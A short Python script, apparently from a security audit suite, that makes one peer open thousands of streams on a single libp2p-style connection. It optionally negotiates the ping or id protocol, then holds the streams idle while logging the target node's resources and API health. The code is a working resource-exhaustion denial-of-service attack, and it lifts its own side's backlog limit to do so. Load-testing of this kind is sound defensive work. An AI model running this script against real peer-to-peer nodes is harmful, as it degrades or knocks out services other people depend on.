"""A peer opens N streams on one connection and leaves them (MODE raw: nothing said; ping or id:
the protocol negotiated, then silence), watched for 40 s.
`python scripts/wire_audit/many_streams.py 10000 raw`"""
import sys
import time

from common import api_ok, attacker, main, measure

import trio

N = int(sys.argv[1]) if len(sys.argv) > 1 else 5000
MODE = sys.argv[2] if len(sys.argv) > 2 else "raw"
PROTOCOL = {"ping": "/ipfs/ping/1.0.0", "id": "/ipfs/id/1.0.0"}.get(MODE)


def line(text: str) -> bytes:
    raw = (text + "\n").encode()
    return bytes([len(raw)]) + raw


async def attack(node):
    async with attacker(node) as (host, target):
        muxed = host.get_network().get_connections(target.peer_id)[0].muxed_conn
        muxed.stream_backlog_semaphore = trio.Semaphore(10**9)    # our own side's bound
        print("before", measure(node), flush=True)
        t0, held = time.monotonic(), []
        for i in range(N):
            stream = await muxed.open_stream()
            if PROTOCOL:
                await stream.write(line("/multistream/1.0.0") + line(PROTOCOL))
            held.append(stream)
            if i % 2000 == 1999:
                print(i + 1, "streams", measure(node), "api", api_ok(node), flush=True)
        print("opened", N, "in", round(time.monotonic() - t0, 1), "s", flush=True)
        for k in range(8):
            await trio.sleep(5)
            print(f"+{5 * (k + 1)}s", measure(node), "api", api_ok(node), flush=True)


main(attack)
